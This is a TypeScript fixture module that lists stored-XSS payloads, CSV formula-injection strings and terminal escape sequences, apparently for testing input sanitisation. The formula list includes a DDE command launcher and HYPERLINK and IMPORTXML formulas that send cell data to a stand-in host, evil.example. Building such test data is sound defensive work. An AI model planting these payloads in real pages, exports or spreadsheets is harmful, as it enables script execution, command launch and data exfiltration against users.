/** What somebody stores so that it runs for whoever looks at it: each sets `pwned` of the page, should a page take it for its own. */
export const scripts: readonly string[] = [
  '<script>pwned=1</script>',
  '</script><script>pwned=1</script>',
  '</textarea><script>pwned=1</script>',
  '</title><script>pwned=1</script>',
  ']]><script>pwned=1</script>',
  '--><script>pwned=1</script>',
  '<ScRiPt >pwned=1</sCrIpT >',
  '"><img src=x onerror=pwned=1>',
  "'><svg onload=pwned=1>",
  '<svg/onload=pwned=1>',
  '<img src=x onerror=pwned=1 ',
  '<details open ontoggle=pwned=1>x</details>',
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<a href="javascript:pwned=1">x</a>',
  '[x](javascript:pwned=1)',
  '![x](x"onerror="pwned=1)',
  '<style onload=pwned=1>*{}</style>',
  '<!--<img src="--><img src=x onerror=pwned=1//">',
  '"onfocus=pwned=1 autofocus="',
  '&lt;img src=x onerror=pwned=1&gt;',
  '+ADw-script+AD4-pwned=1+ADw-/script+AD4-',
  '{{constructor.constructor("pwned=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what is sent
  '${pwned=1}',
  'javascript:pwned=1',
  '\u2028pwned=1\u2029',
  '\u202e<script>pwned=1</script>',
]

/** What spreadsheets compute when it stands at the beginning of a field (OWASP, CSV Injection). */
export const formulas: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"x")',
  '=IMPORTXML("http://evil.example","//a")',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  ' =1+1',
  '\u00a0=1+1',
  '=1+1";=1+1',
  '",=1+1',
  ';=1+1',
  '"=1+1"',
  "'=1+1",
]

/** What terminals obey, where it may be stored: those that are in pipes and in pages of text. */
export const escapes: readonly string[] = ['\u001b[2J\u001b[31mred', '\u009b31mred', 'a\r\nb', 'a\tb', '\u001b]0;title\u0007', '\u202eabc']
